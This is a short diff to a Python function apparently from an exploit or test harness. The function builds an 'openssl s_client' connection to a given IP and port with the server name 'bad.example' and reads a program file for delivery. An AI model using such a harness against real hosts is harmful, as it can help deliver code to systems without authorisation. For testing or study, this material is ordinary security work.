@@ -50,7 +50,7 @@ def bare(version, suite):
 
 def become(flaw, program, ip, port):
     arguments = ["openssl", "s_client", "-connect", f"{ip}:{port}", "-servername",
-                 "bad.example", "-quiet"]
+                 "bad.example", "-quiet", "-no_ign_eof"]
     with open(program, "rb") as file:
         data = file.read()
     path = f"/opt/deleted-{os.getpid()}"
